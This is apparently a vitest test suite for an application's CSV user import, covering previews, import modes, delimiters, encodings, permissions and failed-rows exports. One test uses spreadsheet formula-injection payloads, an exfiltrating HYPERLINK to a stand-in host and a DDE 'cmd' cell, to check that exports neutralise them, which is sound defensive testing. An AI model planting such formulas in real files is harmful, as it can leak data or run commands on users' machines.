import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { startTestApp, type TestApp } from '../helpers/test-app.js';
import { testDialects } from '../helpers/databases.js';
import { importFile, JOB_FIELDS, upload, waitForJob } from '../helpers/imports.js';

const count = async (app: TestApp, query: string) => (await app.gql(`{ users(query: "${query}") { totalCount } }`)).data.users.totalCount as number;

describe.each(testDialects())('CSV import of users, on %s', (dialect) => {
  let app: TestApp;
  beforeAll(async () => {
    app = await startTestApp(dialect, { IMPORT_CHUNK_ROWS: '3' });
    const field = await app.as(app.admin)(
      'mutation { createUserField(input: { key: "member_code", title: "Member code", type: REGEXP, pattern: "[A-Z]{2}-[0-9]{3}" }) { id } }',
    );
    expect(field.errors).toBeUndefined();
    await app.gql('mutation { createUser(input: { name: "Owner Of Taken", email: "taken@imp.example.org" }) { user { id } } }');
    await app.gql('mutation { createUser(input: { name: "Matched By Id", email: "matched@imp.example.org", externalId: "m-1" }) { user { id } } }');
  });
  afterAll(() => app.stop());

  const FILE = [
    'Name,EMAIL,external_id,organization,tags,Custom_Fields.Member_Code,notes',
    'Ada Lovelace,ada@imp.example.org,a-1,Analytical Engines,"vip, math",AB-123,"first line',
    'second line, with a comma and ""quotes"""',
    'Bad Email,not-an-address,a-2,,,,',
    'Ada Twin,ADA@IMP.example.org,a-3,,,,',
    '',
    'Conflict,taken@imp.example.org,m-1,,,,',
    'Bad Code,code@imp.example.org,a-5,,,zz,',
    'Grace Hopper,grace@imp.example.org,a-6,Analytical Engines,navy,CD-456,',
  ].join('\r\n');

  let previewId = '';

  it('previews: counts and failing rows by line and column (an empty line is a row but not counted), nothing written', async () => {
    const job = await importFile(app, FILE, { mode: 'CREATE_OR_UPDATE', dryRun: 'true' });
    previewId = job.id;
    expect(job).toMatchObject({
      status: 'PREVIEWED',
      mode: 'CREATE_OR_UPDATE',
      fileName: 'people.csv',
      rowsTotal: 6,
      created: 2,
      updated: 0,
      failed: 4,
    });
    expect(job.failedRowsUrl).toBe(`/imports/users/${job.id}/failed-rows.csv`);
    const errors = job.errors.map((e: any) => [e.line, e.column, e.code]);
    expect(errors).toEqual([
      [3, 'EMAIL', 'BAD_USER_INPUT'],
      [4, 'EMAIL', 'DUPLICATE_IN_FILE'],
      [6, 'EMAIL', 'EMAIL_TAKEN'],
      [7, 'Custom_Fields.Member_Code', 'BAD_USER_INPUT'],
    ]);
    expect(job.errors[1].message).toContain('Row 2');
    expect(await count(app, 'ada')).toBe(0);
    const orgs = await app.gql('{ organizations(query: "Analytical") { totalCount } }');
    expect(orgs.data.organizations.totalCount).toBe(0);
  });

  it('runs the previewed job: users created through the service, history naming the import, organization made once', async () => {
    const run = await app.as(app.admin)(`mutation($id: ID!) { runImportJob(id: $id) { status } }`, { id: previewId });
    expect(run.errors).toBeUndefined();
    const job = await waitForJob(app, previewId, ['DONE', 'FAILED']);
    expect(job).toMatchObject({ status: 'DONE', rowsRead: 6, rowsTotal: 6, created: 2, updated: 0, unchanged: 0, failed: 4, secondsLeft: null });
    expect(job.errors).toHaveLength(4);
    const ada = await app.gql(`{ userByEmail(email: "ada@imp.example.org") { name createdVia externalId tags notes organization { name }
      fields { key value } events { edges { node { action source actor { tokenName } } } } } }`);
    const u = ada.data.userByEmail;
    expect(u).toMatchObject({
      name: 'Ada Lovelace',
      createdVia: 'IMPORT',
      externalId: 'a-1',
      tags: ['math', 'vip'],
      organization: { name: 'Analytical Engines' },
    });
    expect(u.notes).toBe('first line\nsecond line, with a comma and "quotes"');
    expect(u.fields.find((f: any) => f.key === 'member_code').value).toBe('AB-123');
    expect(u.events.edges[0].node).toMatchObject({ action: 'CREATED', source: 'IMPORT', actor: { tokenName: `Import #${previewId}: people.csv` } });
    const orgs = await app.gql('{ organizations(query: "Analytical") { totalCount } }');
    expect(orgs.data.organizations.totalCount).toBe(1);
    // Run twice? Only a previewed job runs.
    const again = await app.as(app.admin)(`mutation($id: ID!) { runImportJob(id: $id) { status } }`, { id: previewId });
    expect(again.errors?.[0].extensions?.code).toBe('BAD_USER_INPUT');
  });

  it('importing the same file again in CREATE_OR_UPDATE changes nothing', async () => {
    const job = await importFile(app, FILE, { mode: 'CREATE_OR_UPDATE' });
    expect(job).toMatchObject({ status: 'DONE', created: 0, updated: 0, unchanged: 2, failed: 4 });
  });

  it('gives the failed rows back as CSV with an errors column, ready to fix', async () => {
    const res = await fetch(`${app.url}/imports/users/${previewId}/failed-rows.csv`, { headers: { cookie: app.admin.cookie } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/text\/csv/);
    const text = (await res.text()).replace(/^\uFEFF/, '');
    const lines = text.trim().split('\r\n');
    expect(lines[0]).toBe('Name,EMAIL,external_id,organization,tags,Custom_Fields.Member_Code,notes,errors');
    expect(lines).toHaveLength(5);
    expect(lines[1]).toMatch(/^Bad Email,not-an-address,a-2,,,,,"?EMAIL: /);
    expect(lines[3]).toMatch(/^Conflict,taken@imp.example.org,m-1,/);
    const other = await app.token(['USERS_READ']);
    const refused = await fetch(`${app.url}/imports/users/${previewId}/failed-rows.csv`, {
      headers: { authorization: `Bearer ${other.auth.token}` },
    });
    expect(refused.status).toBe(403);
  });

  it('imports its failed-rows file again once fixed: the `errors` column it adds is read past', async () => {
    const file = [
      'name,email,role',
      'Fixme One,fixme.one@again.example.org,boss',
      'Fixme Two,not-an-address,end-user',
      'Fine,fine@again.example.org,end-user',
    ].join('\r\n');
    const first = await importFile(app, file, { mode: 'CREATE' });
    expect(first).toMatchObject({ status: 'DONE', created: 1, failed: 2 });
    const res = await fetch(`${app.url}${first.failedRowsUrl}`, { headers: { cookie: app.admin.cookie } });
    const rows = parse((await res.text()).replace(/^\uFEFF/, '')) as string[][];
    expect(rows[0]).toEqual(['name', 'email', 'role', 'errors']);
    expect(rows).toHaveLength(3);
    // Fix the first failed row only; the second stays wrong, its old message beside it.
    rows[1]![2] = 'agent';
    const fixed = rows.map((r) => r.map((c) => (/[",\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(',')).join('\r\n');
    const again = await importFile(app, fixed, { mode: 'CREATE' });
    expect(again).toMatchObject({ status: 'DONE', fileError: null, rowsTotal: 2, rowsRead: 2, created: 1, failed: 1 });
    expect(again.errors.map((e: any) => [e.line, e.column, e.code])).toEqual([[3, 'email', 'BAD_USER_INPUT']]);
    const one = (await app.gql('{ userByEmail(email: "fixme.one@again.example.org") { name role } }')).data.userByEmail;
    expect(one).toEqual({ name: 'Fixme One', role: 'AGENT' });
    // Its own failed rows: the file's columns and one errors column with the new message, not two.
    const back = await fetch(`${app.url}${again.failedRowsUrl}`, { headers: { cookie: app.admin.cookie } });
    const backRows = parse((await back.text()).replace(/^\uFEFF/, '')) as string[][];
    expect(backRows[0]).toEqual(['name', 'email', 'role', 'errors']);
    expect(backRows.slice(1).map((r) => r.slice(0, 3))).toEqual([['Fixme Two', 'not-an-address', 'end-user']]);
    expect(backRows[1]![3]).toMatch(/^email: /);
    // Only that exact name: another spelling is an unknown column, and a file refused as a whole counts 0 rows of 0.
    for (const name of ['Errors', 'error']) {
      const refused = await importFile(app, `name,email,${name}\nX,x.${name}@again.example.org,\n`);
      expect(refused).toMatchObject({ status: 'FAILED', rowsTotal: 0, rowsRead: 0, created: 0 });
      expect(refused.errors.map((e: any) => [e.line, e.column, e.code])).toEqual([[1, name, 'UNKNOWN_COLUMN']]);
    }
  });

  it('reads a semicolon file (French Excel): quoted multi-select cells, decimals with a comma, its failed rows semicolon-separated and importable again', async () => {
    const admin = app.as(app.admin);
    const o = ['fr', 'en', 'de'].map((v) => ({ value: v, title: v.toUpperCase() }));
    const made = await admin(
      `mutation($o: [UserFieldOptionInput!]) { a: createUserField(input: { key: "langs", title: "Langs", type: MULTISELECT, options: $o }) { id }
        b: createUserField(input: { key: "weight", title: "Weight", type: DECIMAL }) { id } }`,
      { o },
    );
    expect(made.errors).toBeUndefined();
    // As Excel in French saves it: a BOM, semicolons, a cell holding a semicolon quoted, commas as plain text.
    const file = [
      '\ufeffname;email;tags;custom_fields.langs;custom_fields.weight;notes',
      'Jean Dupont;jean@semi.example.org;vip,fr;"fr;en";12.5;"Appelle; puis écrit"',
      'Marie Curie;marie@semi.example.org;;de;"=1+2";Prix, Nobel',
      'Paul Virgule;paul@semi.example.org;;en;12,5;',
      '',
    ].join('\r\n');
    const job = await importFile(app, file, { mode: 'CREATE' });
    expect(job).toMatchObject({ status: 'DONE', delimiter: 'SEMICOLON', fileError: null, rowsTotal: 3, created: 2, failed: 1 });
    // A file separated by semicolons writes decimals with a comma: `12,5` is one cell (not split), read as 12.5.
    expect(job.errors.map((e: any) => [e.line, e.column, e.code])).toEqual([[3, 'custom_fields.weight', 'BAD_USER_INPUT']]);
    const virgule = (await app.gql('{ userByEmail(email: "paul@semi.example.org") { fields { key value } } }')).data.userByEmail;
    expect(virgule.fields.find((f: any) => f.key === 'weight').value).toBe('12.5');
    const jean = (await app.gql('{ userByEmail(email: "jean@semi.example.org") { name notes tags fields { key value values } } }')).data.userByEmail;
    expect(jean).toMatchObject({ name: 'Jean Dupont', notes: 'Appelle; puis écrit', tags: ['fr', 'vip'] });
    expect(Object.fromEntries(jean.fields.map((f: any) => [f.key, f.values ?? f.value]))).toMatchObject({ langs: ['fr', 'en'], weight: '12.5' });
    // The failed rows: semicolons, the formula behind its `'`, the errors cell quoted where it holds a semicolon.
    const res = await fetch(`${app.url}${job.failedRowsUrl}`, { headers: { cookie: app.admin.cookie } });
    const text = (await res.text()).replace(/^\uFEFF/, '');
    expect(text.split('\r\n')[0]).toBe('name;email;tags;custom_fields.langs;custom_fields.weight;notes;errors');
    const rows = parse(text, { delimiter: ';' }) as string[][];
    expect(rows.slice(1).map((r) => r.slice(0, 6))).toEqual([['Marie Curie', 'marie@semi.example.org', '', 'de', "'=1+2", 'Prix, Nobel']]);
    expect(text).toContain('Marie Curie;marie@semi.example.org;;de;\'=1+2;"Prix, Nobel";');
    // Fixed in the spreadsheet and saved again (semicolons), it imports.
    const fixed = text.replace("'=1+2", '70,25');
    const again = await importFile(app, fixed, { mode: 'CREATE' });
    expect(again).toMatchObject({ status: 'DONE', delimiter: 'SEMICOLON', created: 1, failed: 0 });
    const marie = (await app.gql('{ userByEmail(email: "marie@semi.example.org") { fields { key value } } }')).data.userByEmail;
    expect(marie.fields.find((f: any) => f.key === 'weight').value).toBe('70.25');
    // In a file separated by commas, a comma is no decimal separator: a quoted "12,5" is refused, never read as 125 or 12.5.
    const commas = await importFile(app, 'name,email,custom_fields.weight\r\nComma Person,comma@semi.example.org,"12,5"\r\n', { mode: 'CREATE' });
    expect(commas).toMatchObject({ status: 'DONE', delimiter: 'COMMA', created: 0, failed: 1 });
    expect(commas.errors.map((e: any) => [e.line, e.column, e.code])).toEqual([[2, 'custom_fields.weight', 'BAD_USER_INPUT']]);
  });

  it('reads a tab-separated file (.tsv, Excel’s Unicode text)', async () => {
    const file = 'name\temail\tnotes\r\nTab One\ttab.one@tsv.example.org\t"a\tb; c, d"\r\nTab Two\tnot-an-address\t\r\n';
    const job = await importFile(app, file, { mode: 'CREATE' });
    expect(job).toMatchObject({ status: 'DONE', delimiter: 'TAB', created: 1, failed: 1 });
    const one = (await app.gql('{ userByEmail(email: "tab.one@tsv.example.org") { name notes } }')).data.userByEmail;
    expect(one).toEqual({ name: 'Tab One', notes: 'a\tb; c, d' });
    const res = await fetch(`${app.url}${job.failedRowsUrl}`, { headers: { cookie: app.admin.cookie } });
    const text = (await res.text()).replace(/^\uFEFF/, '');
    expect(text.split('\r\n').slice(0, 2)).toEqual(['name\temail\tnotes\terrors', expect.stringMatching(/^Tab Two\tnot-an-address\t\temail: /)]);
  });

  it('reads what Excel saves as “Unicode text” (UTF-16 LE with its mark, tabs) and a “sep=;” first line; failed rows come back as UTF-8', async () => {
    const text = 'name\temail\r\nZoë Ünicode\tzoe@utf16.example.org\r\nBad Ünicode\tnot-an-address\r\n';
    const job = await importFile(app, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]), { mode: 'CREATE' });
    expect(job).toMatchObject({ status: 'DONE', delimiter: 'TAB', created: 1, failed: 1, fileError: null });
    expect(job.errors.map((e: any) => [e.line, e.column])).toEqual([[3, 'email']]);
    expect((await app.gql('{ userByEmail(email: "zoe@utf16.example.org") { name } }')).data.userByEmail.name).toBe('Zoë Ünicode');
    const res = await fetch(`${app.url}${job.failedRowsUrl}`, { headers: { cookie: app.admin.cookie } });
    expect((await res.text()).split('\r\n')[1]).toMatch(/^\uFEFF?Bad Ünicode\tnot-an-address\temail: /);
    const sep = await importFile(app, '\uFEFFsep=;\r\nname;email\r\nSep Line;sep@utf16.example.org\r\nSep Bad;x\r\n', { mode: 'CREATE' });
    expect(sep).toMatchObject({ status: 'DONE', delimiter: 'SEMICOLON', created: 1, failed: 1 });
    expect(sep.errors.map((e: any) => e.line)).toEqual([3]);
  });

  it('gives back every failed row with all of its errors, however many, in file order', async () => {
    // 400 rows with three bad cells each (1,200 errors: more than one page of them, a row's errors split across two pages)
    // and one good row in the middle.
    const rows = Array.from({ length: 400 }, (_, i) => `Bad ${i},bad.${i}@rows.example.org,boss,maybe,perhaps`);
    rows.splice(200, 0, 'Good One,good.one@rows.example.org,end-user,yes,no');
    const job = await importFile(app, `name,email,role,verified,suspended\n${rows.join('\n')}\n`, { mode: 'CREATE' });
    expect(job).toMatchObject({ status: 'DONE', created: 1, failed: 400 });
    const res = await fetch(`${app.url}${job.failedRowsUrl}`, { headers: { cookie: app.admin.cookie } });
    const lines = (await res.text())
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(lines).toHaveLength(401);
    expect(lines[0]).toBe('name,email,role,verified,suspended,errors');
    const failed = lines.slice(1);
    expect(failed.map((l) => l.split(',')[0])).toEqual(Array.from({ length: 400 }, (_, i) => `Bad ${i}`));
    for (const line of failed) {
      const errors = line.slice(line.indexOf(',"') + 2, -1).split('; ');
      expect(errors.map((e) => e.split(':')[0])).toEqual(['role', 'verified', 'suspended']);
    }
  });

  it("failed rows: a cell a spreadsheet would read as a formula goes back behind a '; fixed and imported again, the values are the file's", async () => {
    expect((await app.as(app.admin)('mutation { createUserField(input: { key: "ref", title: "Ref", type: TEXT }) { id } }')).errors).toBeUndefined();
    const file = [
      'name,email,phone,notes,custom_fields.ref',
      `"=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",not-an-address,+33612345678,+cmd|' /C calc'!A0,=1+2`,
      // As an export writes them: '' before a value starting with '=, ' before -3.5 (a spreadsheet's habit; a number needs none).
      `''=Already quoted,bad@,+1 415 555 2671,'-3.5,@SUM(A1)`,
    ].join('\r\n');
    const job = await importFile(app, file, { mode: 'CREATE' });
    expect(job).toMatchObject({ status: 'DONE', created: 0, failed: 2 });
    const res = await fetch(`${app.url}${job.failedRowsUrl}`, { headers: { cookie: app.admin.cookie } });
    const failed: string[][] = parse(await res.text(), { bom: true });
    expect(failed.map((r) => r.slice(0, 5))).toEqual([
      ['name', 'email', 'phone', 'notes', 'custom_fields.ref'],
      [`'=HYPERLINK("https://evil.example/?x="&A1,"Click")`, 'not-an-address', '+33612345678', `'+cmd|' /C calc'!A0`, `'=1+2`],
      ["''=Already quoted", 'bad@', '+1 415 555 2671', '-3.5', `'@SUM(A1)`],
    ]);
    for (const r of failed) expect(r[5]).toMatch(/^[A-Za-z]/);
    // Fixed (the addresses; the errors column dropped), as a spreadsheet would save it, and imported again.
    failed[1][1] = 'formula.one@imp.example.org';
    failed[2][1] = 'formula.two@imp.example.org';
    const fixed = failed
      .map((r) =>
        r
          .slice(0, 5)
          .map((c) => (/[",\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c))
          .join(','),
      )
      .join('\r\n');
    expect(await importFile(app, fixed, { mode: 'CREATE' })).toMatchObject({ status: 'DONE', created: 2, failed: 0 });
    const user = async (e: string) =>
      (await app.gql('query($e: String!) { userByEmail(email: $e) { name phone notes fields { key value } } }', { e })).data.userByEmail;
    const one = await user('formula.one@imp.example.org');
    expect(one).toMatchObject({ name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")', phone: '+33612345678', notes: "+cmd|' /C calc'!A0" });
    expect(one.fields).toContainEqual({ key: 'ref', value: '=1+2' });
    const two = await user('formula.two@imp.example.org');
    expect(two).toMatchObject({ name: "'=Already quoted", phone: '+14155552671', notes: '-3.5' });
    expect(two.fields).toContainEqual({ key: 'ref', value: '@SUM(A1)' });
  });

  it('modes: CREATE fails existing users, UPDATE fails unmatched rows, blank cells clear only when asked', async () => {
    const create = await importFile(app, 'name,email\nAda Again,ada@imp.example.org\nNew Person,new.person@imp.example.org\n', { mode: 'CREATE' });
    expect(create).toMatchObject({ created: 1, failed: 1 });
    expect(create.errors[0]).toMatchObject({ line: 2, column: 'email', code: 'EMAIL_TAKEN' });
    const update = await importFile(app, 'external_id,alias,notes\na-1,Countess,\nnobody,X,\n', { mode: 'UPDATE' });
    expect(update).toMatchObject({ updated: 1, failed: 1 });
    expect(update.errors[0]).toMatchObject({ line: 3, code: 'NOT_FOUND' });
    const ada = async () => (await app.gql('{ userByExternalId(externalId: "a-1") { alias notes } }')).data.userByExternalId;
    expect(await ada()).toMatchObject({ alias: 'Countess', notes: expect.stringContaining('first line') });
    const clear = await importFile(app, 'external_id,alias,notes\na-1,,\n', { mode: 'UPDATE', blankCellsClear: 'true' });
    expect(clear).toMatchObject({ updated: 1 });
    expect(await ada()).toEqual({ alias: null, notes: null });
    const matchedByEmail = await importFile(app, 'email,alias\nMATCHED@imp.example.org,Found\n', { mode: 'UPDATE' });
    expect(matchedByEmail).toMatchObject({ updated: 1 });
  });

  it('reads the file formats people send', async () => {
    const bom = await importFile(app, '\uFEFFname,email\r\n"Smith, John ",  john@imp.example.org  \r\n\r\n"Semi;colon",semi@imp.example.org\r\n', {});
    expect(bom).toMatchObject({ status: 'DONE', created: 2, failed: 0 });
    // Nothing to download: the uploaded file goes at once (a job with failed rows keeps it: IMPORT_FILE_RETENTION_DAYS).
    await expect.poll(async () => (await app.services.imports.byId(Number(bom.id)))!.filePath).toBe('');
    expect((await app.gql('{ userByEmail(email: "john@imp.example.org") { name } }')).data.userByEmail.name).toBe('Smith, John');
    expect((await app.gql('{ userByEmail(email: "semi@imp.example.org") { name } }')).data.userByEmail.name).toBe('Semi;colon');
    const headerOnly = await importFile(app, 'name,email\r\n');
    expect(headerOnly).toMatchObject({ status: 'DONE', rowsTotal: 0, created: 0 });
    const latin = Buffer.from('name,email\nFran\xe7oise M\xfcller,francoise@imp.example.org\n', 'latin1');
    const refused = await importFile(app, latin);
    expect(refused).toMatchObject({ status: 'FAILED' });
    expect(refused.fileError).toMatch(/UTF-8/);
    const cp1252 = await importFile(app, latin, { encoding: 'windows-1252' });
    expect(cp1252).toMatchObject({ status: 'DONE', created: 1 });
    expect((await app.gql('{ userByEmail(email: "francoise@imp.example.org") { name } }')).data.userByEmail.name).toBe('Françoise Müller');
    const binary = await importFile(app, new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x00, 0x00, 0x08, 0x00]));
    expect(binary).toMatchObject({ status: 'FAILED' });
    expect(binary.errors[0].code).toBe('BINARY');
    const unknown = await importFile(app, 'name,email,e-mail,Name\nX,x@imp.example.org,y,Z\n');
    expect(unknown).toMatchObject({ status: 'FAILED', created: 0 });
    expect(unknown.errors.map((e: any) => [e.line, e.column, e.code])).toEqual([
      [1, 'e-mail', 'UNKNOWN_COLUMN'],
      [1, 'Name', 'DOUBLED_COLUMN'],
    ]);
    expect(await count(app, 'x@imp')).toBe(0);
    const roles = await importFile(app, 'name,email,role\nStaff One,staff1@imp.example.org,Agent\nOdd,odd@imp.example.org,boss\n');
    expect(roles).toMatchObject({ created: 1, failed: 1 });
    expect(roles.errors[0]).toMatchObject({ line: 3, column: 'role', code: 'INVALID_ROLE' });
  });

  it('is for admins (tokens with the IMPORT scope); a signed-in upload needs the CSRF header', async () => {
    const agent = await app.person('AGENT');
    expect((await upload(app, 'name,email\n', {}, agent.auth)).status).toBe(403);
    expect((await upload(app, 'name,email\n', {}, app.admin, {})).status).toBe(400);
    const noScope = await app.token(['USERS_READ', 'USERS_WRITE']);
    expect((await upload(app, 'name,email\n', {}, noScope.auth, {})).status).toBe(403);
    const importer = await app.token(['IMPORT']);
    const ok = await upload(app, 'name,email\nBy Token,by.token@imp.example.org\n', { mode: 'CREATE' }, importer.auth, {});
    expect(ok.status).toBe(202);
    expect(ok.body).toEqual({ id: expect.any(String), status: 'QUEUED' });
    expect((await upload(app, 'name,email\n', { mode: 'MERGE' })).status).toBe(400);
    const list = await app.as(importer.auth)(`{ importJobs(first: 2) { totalCount edges { node { id status } } pageInfo { hasNextPage } } }`);
    expect(list.data.importJobs.edges[0].node.id).toBe(ok.body.id);
    // Every import, not only those of the page.
    const jobCount = (await app.db.manager.query('SELECT COUNT(*) AS n FROM import_jobs')) as { n: number | string }[];
    expect(list.data.importJobs.totalCount).toBe(Number(jobCount[0]!.n));
    expect(list.data.importJobs.totalCount).toBeGreaterThan(2);
    expect((await app.as(noScope.auth)(`{ importJobs { edges { node { id } } } }`)).errors?.[0].extensions?.code).toBe('FORBIDDEN');
    expect(
      (await app.as(agent.auth)(`query($id: ID!) { importJob(id: $id) { ${JOB_FIELDS} } }`, { id: ok.body.id })).errors?.[0].extensions?.code,
    ).toBe('FORBIDDEN');
  });

  it('cancels a previewed import', async () => {
    const job = await importFile(app, 'name,email\nNever,never@imp.example.org\n', { dryRun: '1' });
    const cancelled = await app.as(app.admin)('mutation($id: ID!) { cancelImportJob(id: $id) { status finishedAt } }', { id: job.id });
    expect(cancelled.data.cancelImportJob.status).toBe('CANCELLED');
    expect((await app.as(app.admin)('mutation($id: ID!) { runImportJob(id: $id) { status } }', { id: job.id })).errors?.[0].extensions?.code).toBe(
      'BAD_USER_INPUT',
    );
  });
});
